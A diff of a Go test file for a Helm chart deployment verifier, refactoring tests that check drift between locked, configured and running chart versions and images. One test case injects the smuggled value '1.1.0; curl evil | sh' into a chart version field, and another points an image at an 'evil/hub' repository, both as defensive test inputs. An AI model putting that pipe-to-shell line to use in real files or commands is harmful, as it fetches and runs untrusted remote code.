@@ -1,7 +1,8 @@
-package deploy
+package verify
 
 import (
 	"fmt"
+	"os"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -9,7 +10,9 @@ import (
 
 	"chartd.dev/chartd/internal/api"
 	"chartd.dev/chartd/internal/archive"
+	"chartd.dev/chartd/internal/deploy"
 	"chartd.dev/chartd/internal/deploy/lockfile"
+	"chartd.dev/chartd/internal/deploy/release"
 	"chartd.dev/chartd/internal/e2e/rig"
 	"chartd.dev/chartd/internal/ref"
 	"chartd.dev/chartd/internal/testtools"
@@ -28,6 +31,16 @@ type deployRepo struct {
 }
 
 func digestOf(s string) ref.Digest { return ref.DigestOf([]byte(s)) }
+
+func write(t testing.TB, path, text string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
 
 func must[T any](t testing.TB) func(T, error) T {
 	return func(v T, err error) T {
@@ -106,17 +119,17 @@ func (r *deployRepo) edit(file, old, new string) {
 	r.files[file] = strings.Replace(r.files[file], old, new, 1)
 }
 
-func (r *deployRepo) verify(o VerifyOptions) (Verdict, error) {
+func (r *deployRepo) verify(o Options) (Verdict, error) {
 	r.Helper()
 	for name, text := range r.files {
 		write(r, filepath.Join(r.dir, name), text)
 	}
-	repo, err := Open(r.Context(), r.dir)
+	repo, err := deploy.Open(r.Context(), r.dir)
 	if err != nil {
 		return Verdict{}, err
 	}
 	defer repo.Close()
-	return repo.Verify(o)
+	return Repo(repo, o)
 }
 
 // pinned is the server's answer where both environments are pinned to entry.
@@ -139,7 +152,7 @@ func TestVerifyClean(t *testing.T) {
 	r.files["hub/charts/jupyterhub-1.1.0.tgz"] = string(r.pkg)
 	r.files["hub/charts/other-9.9.9.tgz"] = "not ours"
 	content := must[*archive.Package](t)(archive.Read(r.pkg, archive.Options{})).Content
-	v, err := r.verify(VerifyOptions{Environments: r.pinned(),
+	v, err := r.verify(Options{Environments: r.pinned(),
 		Charts: map[string]api.Chart{"jupyterhub@1.1.0": {Name: "jupyterhub", Version: "1.1.0", Content: content}},
 		Tags:   map[string]ref.Digest{"quay.io/campus/hub:2026.2": digestOf("campus 2026.2"), "quay.io/example/hub:1.1.0": digestOf("hub 1.1.0")}})
 	if err != nil || len(v.Findings) > 0 || len(v.Notes) > 0 {
@@ -176,7 +189,7 @@ func TestVerifyHistory(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			r := newDeployRepo(t)
 			tt.change(r)
-			v, err := r.verify(VerifyOptions{})
+			v, err := r.verify(Options{})
 			if err != nil || len(v.Findings) != 1 || v.Findings[0].String() != tt.want {
 				t.Errorf("%v\n%v\nwant\n%s", err, v.Findings, tt.want)
 			}
@@ -189,114 +202,114 @@ func TestVerifyHistory(t *testing.T) {
 func TestVerifyDifferences(t *testing.T) {
 	other := digestOf("other")
 	for name, tt := range map[string]struct {
-		change func(r *deployRepo, o *VerifyOptions)
+		change func(r *deployRepo, o *Options)
 		kind   string
 		at     string
 		words  []string
 	}{
-		"image alone": {func(r *deployRepo, _ *VerifyOptions) { r.edit("hub/values.yaml", "2026.2", "2026.10") },
+		"image alone": {func(r *deployRepo, _ *Options) { r.edit("hub/values.yaml", "2026.2", "2026.10") },
 			DriftPair, "hub/values.yaml:5", []string{"the hub image is 2026.10", "moved forward alone", "jupyterhub in hub/requirements.yaml:4 is still 1.1.0", "--image hub=quay.io/campus/hub:2026.10"}},
-		"image by another digest": {func(r *deployRepo, _ *VerifyOptions) {
+		"image by another digest": {func(r *deployRepo, _ *Options) {
 			r.edit("hub/values.yaml", r.entry.Images[0].Digest.Hex(), other.Hex())
 		}, DriftPair, "hub/values.yaml:5", []string{"another digest under the same tag", other.Hex()[:12]}},
-		"image without its digest": {func(r *deployRepo, _ *VerifyOptions) {
+		"image without its digest": {func(r *deployRepo, _ *Options) {
 			r.edit("hub/values.yaml", "@"+r.entry.Images[0].Digest.String(), "")
 		}, DriftSite, "hub/values.yaml:5", []string{"the tag alone does not say which image runs", "chartctl bump data8/staging --group --allow-dirty --binding"}},
-		"image from another repository": {func(r *deployRepo, _ *VerifyOptions) { r.edit("hub/values.yaml", "campus/hub", "evil/hub") },
+		"image from another repository": {func(r *deployRepo, _ *Options) { r.edit("hub/values.yaml", "campus/hub", "evil/hub") },
 			DriftPair, "hub/values.yaml:", []string{"quay.io/evil/hub:2026.2"}},
-		"image and FROM": {func(r *deployRepo, _ *VerifyOptions) {
+		"image and FROM": {func(r *deployRepo, _ *Options) {
 			r.edit("hub/values.yaml", "2026.2", "2026.3")
 			r.edit("images/hub/Dockerfile", "1.1.0", "1.2.0")
 		}, DriftPair, "hub/values.yaml:5", []string{"the image and FROM in images/hub/Dockerfile:2 moved", "is still 1.1.0"}},
-		"FROM alone": {func(r *deployRepo, _ *VerifyOptions) { r.edit("images/hub/Dockerfile", "1.1.0", "1.2.0") },
+		"FROM alone": {func(r *deployRepo, _ *Options) { r.edit("images/hub/Dockerfile", "1.1.0", "1.2.0") },
 			DriftPair, "images/hub/Dockerfile:2", []string{"FROM is example/hub:1.2.0", "--prepare"}},
-		"chart and image both forward": {func(r *deployRepo, _ *VerifyOptions) {
+		"chart and image both forward": {func(r *deployRepo, _ *Options) {
 			r.edit("hub/requirements.yaml", "1.1.0", "1.2.0")
 			r.edit("hub/values.yaml", "2026.2", "2026.3")
 		}, DriftPair, "hub/requirements.yaml:4", []string{"nobody has checked that they belong together"}},
-		"another chart repository": {func(r *deployRepo, _ *VerifyOptions) {
+		"another chart repository": {func(r *deployRepo, _ *Options) {
 			r.edit("hub/requirements.yaml", source, "https://elsewhere.example")
 		}, DriftSite, "hub/requirements.yaml:", []string{"https://elsewhere.example", source}},
-		"a site that is gone": {func(r *deployRepo, _ *VerifyOptions) { r.edit("images/hub/Dockerfile", "FROM", "# FROM") },
+		"a site that is gone": {func(r *deployRepo, _ *Options) { r.edit("images/hub/Dockerfile", "FROM", "# FROM") },
 			DriftSite, "images/hub/Dockerfile", []string{"cannot be checked", "is not there"}},
-		"a file that is gone": {func(r *deployRepo, _ *VerifyOptions) {
+		"a file that is gone": {func(r *deployRepo, _ *Options) {
 			r.edit(".chartctl.yaml", "images/hub/Dockerfile", "images/hub/Containerfile")
 		}, DriftSite, "images/hub/Containerfile", []string{"there is no such file"}},
-		"a merge conflict": {func(r *deployRepo, _ *VerifyOptions) {
+		"a merge conflict": {func(r *deployRepo, _ *Options) {
 			r.edit("hub/values.yaml", "      tag:", "<<<<<<< HEAD\n      tag: one\n=======\n      tag: two\n>>>>>>> other\n      tag:")
 		}, DriftSite, "hub/values.yaml:5", []string{"git's conflict markers", "take either side (git checkout --ours -- hub/values.yaml), then: chartctl bump data8/staging --group --allow-dirty --binding b1:"}},
-		"a template": {func(r *deployRepo, _ *VerifyOptions) { r.edit("hub/values.yaml", "'2026.2", "'{{ .Tag }}") },
+		"a template": {func(r *deployRepo, _ *Options) { r.edit("hub/values.yaml", "'2026.2", "'{{ .Tag }}") },
 			DriftSite, "hub/values.yaml:5", []string{"{{"}},
-		"Helm's lock file": {func(r *deployRepo, _ *VerifyOptions) {
+		"Helm's lock file": {func(r *deployRepo, _ *Options) {
 			r.files["hub/requirements.lock"] = "dependencies:\n- name: jupyterhub\n  repository: " + source + "\n  version: 1.0.0\ndigest: " + other.String() + "\ngenerated: \"2024-01-01T00:00:00Z\"\n"
 		}, DriftHelmLock, "hub/requirements.lock:", []string{"1.0.0", "helm dependency update hub"}},
-		"an older packed chart": {func(r *deployRepo, _ *VerifyOptions) {
+		"an older packed chart": {func(r *deployRepo, _ *Options) {
 			root, _ := testtools.Root()
 			r.files["hub/charts/jupyterhub-1.0.0.tgz"] = string(must[[]byte](r)(rig.Hub{Version: "1.0.0"}.Package(root)))
 		}, DriftPacked, "hub/charts/jupyterhub-1.0.0.tgz", []string{"the packed chart is jupyterhub 1.0.0, locked is jupyterhub 1.1.0", "Helm would deploy the packed one", "helm dependency update hub"}},
-		"another content under the version": {func(r *deployRepo, o *VerifyOptions) {
+		"another content under the version": {func(r *deployRepo, o *Options) {
 			root, _ := testtools.Root()
 			r.files["hub/charts/jupyterhub-1.1.0.tgz"] = string(must[[]byte](r)(rig.Hub{Version: "1.1.0", Note: "another"}.Package(root)))
 			o.Charts = map[string]api.Chart{"jupyterhub@1.1.0": {Content: digestOf("published")}}
 		}, DriftPacked, "hub/charts/jupyterhub-1.1.0.tgz", []string{"its content is not what was published"}},
-		"another digest, offline": {func(r *deployRepo, _ *VerifyOptions) {
+		"another digest, offline": {func(r *deployRepo, _ *Options) {
 			root, _ := testtools.Root()
 			r.files["hub/charts/jupyterhub-1.1.0.tgz"] = string(must[[]byte](r)(rig.Hub{Version: "1.1.0", Note: "another"}.Package(root)))
 		}, DriftPacked, "hub/charts/jupyterhub-1.1.0.tgz", []string{"whether only the packing differs is told without --offline"}},
-		"no chart in charts/": {func(r *deployRepo, _ *VerifyOptions) { r.files["hub/charts/jupyterhub-1.1.0.tgz"] = "no chart" },
+		"no chart in charts/": {func(r *deployRepo, _ *Options) { r.files["hub/charts/jupyterhub-1.1.0.tgz"] = "no chart" },
 			DriftPacked, "hub/charts/jupyterhub-1.1.0.tgz", []string{"not a chart"}},
-		"two packages": {func(r *deployRepo, _ *VerifyOptions) {
+		"two packages": {func(r *deployRepo, _ *Options) {
 			r.files["hub/charts/jupyterhub-1.1.0.tgz"] = string(r.pkg)
 			r.files["hub/charts/jupyterhub-1.1.0-again.tgz"] = string(r.pkg)
 		}, DriftPacked, "hub/charts", []string{"2 packages of jupyterhub"}},
-		"an unpacked chart": {func(r *deployRepo, _ *VerifyOptions) {
+		"an unpacked chart": {func(r *deployRepo, _ *Options) {
 			r.files["hub/charts/jupyterhub/Chart.yaml"] = "name: jupyterhub\nversion: 1.0.0\n"
 		}, DriftPacked, "hub/charts/jupyterhub/Chart.yaml:2", []string{"the unpacked chart is jupyterhub 1.0.0"}},
-		"an older chart under another file name": {func(r *deployRepo, _ *VerifyOptions) {
+		"an older chart under another file name": {func(r *deployRepo, _ *Options) {
 			root, _ := testtools.Root()
 			r.files["hub/charts/upstream.tgz"] = string(must[[]byte](r)(rig.Hub{Version: "1.0.0"}.Package(root)))
 		}, DriftPacked, "hub/charts/upstream.tgz", []string{"the packed chart is jupyterhub 1.0.0", "Helm would deploy the packed one"}},
-		"an older chart in another directory": {func(r *deployRepo, _ *VerifyOptions) {
+		"an older chart in another directory": {func(r *deployRepo, _ *Options) {
 			r.files["hub/charts/upstream/Chart.yaml"] = "name: jupyterhub\nversion: 1.0.0\n"
 		}, DriftPacked, "hub/charts/upstream/Chart.yaml:2", []string{"the unpacked chart is jupyterhub 1.0.0"}},
-		"two lists of dependencies": {func(r *deployRepo, _ *VerifyOptions) {
+		"two lists of dependencies": {func(r *deployRepo, _ *Options) {
 			r.files["hub/Chart.yaml"] += "dependencies:\n- {name: jupyterhub, version: 1.0.0, repository: x}\n"
 		}, DriftSite, "hub/requirements.yaml:2", []string{"hub/Chart.yaml:5 has some too", "keep one"}},
-		"an alias that the values do not have": {func(r *deployRepo, _ *VerifyOptions) {
+		"an alias that the values do not have": {func(r *deployRepo, _ *Options) {
 			r.edit("hub/requirements.yaml", "   version: 1.1.0", "   version: 1.1.0\n   alias: jh")
 		}, DriftSite, "hub/requirements.yaml:5", []string{`under "jh"`, `prefix in .chartctl.yaml is "jupyterhub"`, "the chart's own image runs"}},
-		"an alias that a site does not have": {func(r *deployRepo, _ *VerifyOptions) {
+		"an alias that a site does not have": {func(r *deployRepo, _ *Options) {
 			r.edit("hub/requirements.yaml", "   version: 1.1.0", "   version: 1.1.0\n   alias: jh")
 			r.files[".chartctl.yaml"] = strings.ReplaceAll(r.files[".chartctl.yaml"], "prefix: jupyterhub", "prefix: jh")
 		}, DriftSite, "hub/values.yaml", []string{"jupyterhub.hub.image is not read"}},
-		"two documents": {func(r *deployRepo, _ *VerifyOptions) {
+		"two documents": {func(r *deployRepo, _ *Options) {
 			r.files["hub/requirements.yaml"] = "dependencies: []\n---\n" + r.files["hub/requirements.yaml"]
 		}, DriftSite, "hub/requirements.yaml", []string{"2 YAML documents"}},
-		"a revision that does not run": {func(r *deployRepo, o *VerifyOptions) {
-			o.Deployed = deployedAs(r, HelmRelease{Name: "data8", Label: "jupyterhub-1.1.0", Revision: 7, Status: "superseded"})
+		"a revision that does not run": {func(r *deployRepo, o *Options) {
+			o.Deployed = deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.1.0", Revision: 7, Status: "superseded"})
 		}, DriftDeployed, "chartd.lock:4", []string{"revision 7 of release data8 is superseded"}},
-		"a version that is none": {func(r *deployRepo, _ *VerifyOptions) {
+		"a version that is none": {func(r *deployRepo, _ *Options) {
 			r.edit("hub/requirements.yaml", "version: 1.1.0", "version: 1.1.0; curl evil | sh")
 		}, DriftPair, "hub/requirements.yaml:4", []string{"Mend: to stay at 1.1.0: chartctl bump data8/staging --group --allow-dirty --binding " + newDeployRepo(t).entry.Binding.String() + " ("}},
-		"no entry": {func(r *deployRepo, _ *VerifyOptions) { r.lock("r/staging") },
+		"no entry": {func(r *deployRepo, _ *Options) { r.lock("r/staging") },
 			DriftLock, "chartd.lock", []string{"no entry for data8/staging", "chartctl bump data8/staging --group --latest"}},
-		"a stranger's entry": {func(r *deployRepo, _ *VerifyOptions) { r.lock("data8/staging", "r/staging", "x/staging") },
+		"a stranger's entry": {func(r *deployRepo, _ *Options) { r.lock("data8/staging", "r/staging", "x/staging") },
 			DriftLock, "chartd.lock:", []string{"x/staging is locked", "names no such environment"}},
-		"another source": {func(r *deployRepo, _ *VerifyOptions) {
+		"another source": {func(r *deployRepo, _ *Options) {
 			r.entry.Source = "https://old.example.edu"
 			r.lock("data8/staging", "r/staging")
 			r.edit("hub/requirements.yaml", source, "https://old.example.edu")
 		}, DriftLock, "chartd.lock:5", []string{"https://old.example.edu"}},
-		"another chart": {func(r *deployRepo, _ *VerifyOptions) {
+		"another chart": {func(r *deployRepo, _ *Options) {
 			r.files[".chartctl.yaml"] = strings.ReplaceAll(r.files[".chartctl.yaml"], "chart: jupyterhub", "chart: binderhub")
 		},
 			DriftLock, "chartd.lock:4", []string{"the locked chart is jupyterhub", "binderhub"}},
-		"prepared": {func(r *deployRepo, _ *VerifyOptions) {
+		"prepared": {func(r *deployRepo, _ *Options) {
 			r.entry.Prepare = &lockfile.Chart{Name: "jupyterhub", Version: "1.2.0", Digest: other}
 			r.lock("data8/staging", "r/staging")
 			r.edit("images/hub/Dockerfile", "1.1.0", "1.2.0")
 		}, DriftLock, "chartd.lock:8", []string{"prepared, image pending", "--version 1.2.0 --image hub=quay.io/campus/hub:TAG"}},
-		"another pin": {func(r *deployRepo, o *VerifyOptions) {
+		"another pin": {func(r *deployRepo, o *Options) {
 			o.Environments = r.pinned()
 			for env, e := range o.Environments {
 				p := *e.Pin
@@ -305,42 +318,42 @@ func TestVerifyDifferences(t *testing.T) {
 				o.Environments[env] = e
 			}
 		}, DriftPin, "chartd.lock:4", []string{"locked is jupyterhub 1.1.0 with hub 2026.2@sha256:", "the server has jupyterhub 1.0.0", "as revision 4, by ci", "git pull"}},
-		"no pin": {func(r *deployRepo, o *VerifyOptions) {
+		"no pin": {func(r *deployRepo, o *Options) {
 			o.Environments = r.pinned()
 			for env, e := range o.Environments {
 				e.Pin, e.Binding = nil, nil
 				o.Environments[env] = e
 			}
 		}, DriftPin, "chartd.lock:4", []string{"the server has pinned nothing"}},
-		"no environment": {func(r *deployRepo, o *VerifyOptions) {
+		"no environment": {func(r *deployRepo, o *Options) {
 			o.Environments = r.pinned()
 			env, _ := ref.ParseEnv("r/staging")
 			delete(o.Environments, env)
 		}, DriftPin, "chartd.lock:", []string{"the server knows no environment r/staging", "chartctl env create r/staging --chart jupyterhub"}},
-		"a tag that the server has otherwise": {func(r *deployRepo, o *VerifyOptions) {
+		"a tag that the server has otherwise": {func(r *deployRepo, o *Options) {
 			o.Environments = r.pinned()
 			for _, e := range o.Environments {
 				e.Binding.Images[0].Tag = "latest"
 			}
 		}, DriftPin, "chartd.lock:", []string{"a tag or a base is not as the server has it"}},
-		"a tag that was moved": {func(_ *deployRepo, o *VerifyOptions) {
+		"a tag that was moved": {func(_ *deployRepo, o *Options) {
 			o.Tags = map[string]ref.Digest{"quay.io/campus/hub:2026.2": other, "quay.io/example/hub:1.1.0": digestOf("hub 1.1.0")}
 		}, DriftTag, "chartd.lock:", []string{"the tag quay.io/campus/hub:2026.2 was moved", other.Hex()[:12], "which stays pinned"}},
-		"a base that was moved": {func(_ *deployRepo, o *VerifyOptions) {
+		"a base that was moved": {func(_ *deployRepo, o *Options) {
 			o.Tags = map[string]ref.Digest{"quay.io/campus/hub:2026.2": digestOf("campus 2026.2"), "quay.io/example/hub:1.1.0": other}
 		}, DriftTag, "chartd.lock:", []string{"the tag quay.io/example/hub:1.1.0 was moved", "build the hub image again"}},
-		"another chart runs": {func(r *deployRepo, o *VerifyOptions) {
-			o.Deployed = deployedAs(r, HelmRelease{Name: "data8", Label: "jupyterhub-1.0.0"})
+		"another chart runs": {func(r *deployRepo, o *Options) {
+			o.Deployed = deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.0.0"})
 		}, DriftDeployed, "chartd.lock:4", []string{"release data8 runs jupyterhub 1.0.0, locked is 1.1.0", "chartctl deploy data8/staging"}},
-		"another image runs": {func(r *deployRepo, o *VerifyOptions) {
-			o.Deployed = deployedAs(r, HelmRelease{Name: "data8", Label: "jupyterhub-1.1.0", Rendered: true, Images: []RunningImage{running("quay.io/campus/hub:2026.1")}})
+		"another image runs": {func(r *deployRepo, o *Options) {
+			o.Deployed = deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.1.0", Rendered: true, Images: []release.Image{running("quay.io/campus/hub:2026.1")}})
 		}, DriftDeployed, "chartd.lock:", []string{"container hub of Deployment/hub in release data8 runs the hub image quay.io/campus/hub:2026.1"}},
-		"no such image runs": {func(r *deployRepo, o *VerifyOptions) {
-			o.Deployed = deployedAs(r, HelmRelease{Name: "data8", Label: "jupyterhub-1.1.0", Rendered: true, Images: []RunningImage{running("quay.io/example/hub:1.1.0")}})
+		"no such image runs": {func(r *deployRepo, o *Options) {
+			o.Deployed = deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.1.0", Rendered: true, Images: []release.Image{running("quay.io/example/hub:1.1.0")}})
 		}, DriftDeployed, "chartd.lock:", []string{"no container of release data8 runs the hub image quay.io/campus/hub; its container hub runs quay.io/example/hub:1.1.0"}},
 	} {
 		t.Run(name, func(t *testing.T) {
-			r, o := newDeployRepo(t), VerifyOptions{}
+			r, o := newDeployRepo(t), Options{}
 			tt.change(r, &o)
 			v, err := r.verify(o)
 			var lines []string
@@ -368,28 +381,28 @@ func TestVerifyDifferences(t *testing.T) {
 	}
 }
 
-func deployedAs(r *deployRepo, h HelmRelease) map[ref.Env]HelmRelease {
+func deployedAs(r *deployRepo, h release.Release) map[ref.Env]release.Release {
 	env, err := ref.ParseEnv("data8/staging")
 	if err != nil {
 		r.Fatal(err)
 	}
-	return map[ref.Env]HelmRelease{env: h}
+	return map[ref.Env]release.Release{env: h}
 }
 
-func running(image string) RunningImage {
+func running(image string) release.Image {
 	r, _ := ref.ParseReference(image)
-	return RunningImage{Object: "Deployment/hub", Container: "hub", Text: image, Ref: r}
+	return release.Image{Object: "Deployment/hub", Container: "hub", Text: image, Ref: r}
 }
 
 // What Helm lists holds no image, and that is said; a release secret has it.
 func TestVerifyDeployedNotes(t *testing.T) {
 	r := newDeployRepo(t)
-	v, err := r.verify(VerifyOptions{Deployed: deployedAs(r, HelmRelease{Name: "data8", Label: "jupyterhub-1.1.0"})})
+	v, err := r.verify(Options{Deployed: deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.1.0"})})
 	if err != nil || len(v.Findings) > 0 || len(v.Notes) != 1 || !strings.Contains(v.Notes[0], "holds no image: only the chart was checked") {
 		t.Errorf("%v, %v, %q", err, v.Findings, v.Notes)
 	}
-	v, err = r.verify(VerifyOptions{Deployed: deployedAs(r, HelmRelease{Name: "data8", Label: "jupyterhub-1.1.0", Rendered: true,
-		Images: []RunningImage{running("quay.io/campus/hub:2026.2@" + r.entry.Images[0].Digest.String())}})})
+	v, err = r.verify(Options{Deployed: deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.1.0", Rendered: true,
+		Images: []release.Image{running("quay.io/campus/hub:2026.2@" + r.entry.Images[0].Digest.String())}})})
 	if err != nil || len(v.Findings)+len(v.Notes) > 0 {
 		t.Errorf("%v, %v, %q", err, v.Findings, v.Notes)
 	}
@@ -407,7 +420,7 @@ func TestVerifyPending(t *testing.T) {
 		envs[env] = e
 	}
 	for pending, want := range map[bool]int{true: 0, false: 1} {
-		v, err := r.verify(VerifyOptions{Environments: envs, Pending: pending})
+		v, err := r.verify(Options{Environments: envs, Pending: pending})
 		if err != nil || len(v.Findings) != want {
 			t.Errorf("pending %v: %v, %v", pending, err, v.Findings)
 		}
@@ -415,7 +428,7 @@ func TestVerifyPending(t *testing.T) {
 	r.entry.Prepare = &lockfile.Chart{Name: "jupyterhub", Version: "1.2.0", Digest: digestOf("1.2.0")}
 	r.lock("data8/staging", "r/staging")
 	r.edit("images/hub/Dockerfile", "1.1.0", "1.2.0")
-	v, err := r.verify(VerifyOptions{Pending: true})
+	v, err := r.verify(Options{Pending: true})
 	if err != nil || len(v.Findings) > 0 || len(v.Notes) != 1 || !strings.Contains(v.Notes[0], "prepared, image pending") {
 		t.Errorf("%v, %v, %q", err, v.Findings, v.Notes)
 	}
@@ -431,7 +444,7 @@ func TestVerifyPackedByContent(t *testing.T) {
 	r.files["hub/charts/jupyterhub-1.1.0.tgz"] = string(again)
 	content := must[*archive.Package](t)(archive.Read(again, archive.Options{})).Content
 	charts := map[string]api.Chart{"jupyterhub@1.1.0": {Content: content}}
-	if v, err := r.verify(VerifyOptions{Charts: charts}); err != nil || len(v.Findings) > 0 {
+	if v, err := r.verify(Options{Charts: charts}); err != nil || len(v.Findings) > 0 {
 		t.Errorf("saved again: %v, %v", err, v.Findings)
 	}
 	i := r.entry.Images[0]
@@ -442,20 +455,20 @@ func TestVerifyPackedByContent(t *testing.T) {
 	delete(r.files, "hub/charts/jupyterhub-1.1.0.tgz")
 	r.dir = t.TempDir()
 	r.files[fmt.Sprintf("hub/charts/jupyterhub-1.1.0.sealed-%s.tgz", ref.DigestOf(sealed).Hex()[:16])] = string(sealed)
-	if v, err := r.verify(VerifyOptions{}); err != nil || len(v.Findings) > 0 || len(v.Notes) != 1 {
+	if v, err := r.verify(Options{}); err != nil || len(v.Findings) > 0 || len(v.Notes) != 1 {
 		t.Errorf("sealed, offline: %v, %v, %q", err, v.Findings, v.Notes)
 	}
 	envs := r.pinned()
 	for _, e := range envs {
 		e.Binding.Sealed = ref.DigestOf(sealed)
 	}
-	if v, err := r.verify(VerifyOptions{Environments: envs, Charts: charts}); err != nil || len(v.Findings)+len(v.Notes) > 0 {
+	if v, err := r.verify(Options{Environments: envs, Charts: charts}); err != nil || len(v.Findings)+len(v.Notes) > 0 {
 		t.Errorf("sealed: %v, %v, %q", err, v.Findings, v.Notes)
 	}
 	for _, e := range envs {
 		e.Binding.Sealed = digestOf("another")
 	}
-	if v, err := r.verify(VerifyOptions{Environments: envs, Charts: charts}); err != nil || len(v.Findings) != 1 {
+	if v, err := r.verify(Options{Environments: envs, Charts: charts}); err != nil || len(v.Findings) != 1 {
 		t.Errorf("another sealed package: %v, %v", err, v.Findings)
 	}
 }
@@ -464,13 +477,13 @@ func TestVerifyErrors(t *testing.T) {
 	unknown, _ := ref.ParseEnv("x/staging")
 	for name, tt := range map[string]struct {
 		change func(r *deployRepo)
-		o      VerifyOptions
+		o      Options
 		want   string
 	}{
-		"no lock":     {func(r *deployRepo) { delete(r.files, lockfile.Name) }, VerifyOptions{}, "nothing is locked yet"},
-		"no config":   {func(r *deployRepo) { delete(r.files, ".chartctl.yaml") }, VerifyOptions{}, "chartctl init"},
-		"unknown":     {func(*deployRepo) {}, VerifyOptions{Envs: []ref.Env{unknown}}, `names no environment "x/staging"; it names data8/staging, r/staging`},
-		"edited lock": {func(r *deployRepo) { r.edit(lockfile.Name, "2026.2", "2026.3") }, VerifyOptions{}, "chartd.lock:"},
+		"no lock":     {func(r *deployRepo) { delete(r.files, lockfile.Name) }, Options{}, "nothing is locked yet"},
+		"no config":   {func(r *deployRepo) { delete(r.files, ".chartctl.yaml") }, Options{}, "chartctl init"},
+		"unknown":     {func(*deployRepo) {}, Options{Envs: []ref.Env{unknown}}, `names no environment "x/staging"; it names data8/staging, r/staging`},
+		"edited lock": {func(r *deployRepo) { r.edit(lockfile.Name, "2026.2", "2026.3") }, Options{}, "chartd.lock:"},
 	} {
 		r := newDeployRepo(t)
 		tt.change(r)
@@ -494,7 +507,7 @@ func TestCourse(t *testing.T) {
 			t.Errorf("tag %s to %s: %v, want %v", tt.from, tt.to, got, tt.want)
 		}
 	}
-	v := &verification{o: VerifyOptions{Charts: map[string]api.Chart{"hub@v0.9-445a953": {Seq: 7}, "hub@0.0.1-n3175": {Seq: 9}}}}
+	v := &verification{o: Options{Charts: map[string]api.Chart{"hub@v0.9-445a953": {Seq: 7}, "hub@0.0.1-n3175": {Seq: 9}}}}
 	for _, tt := range []struct {
 		from, to string
 		want     course
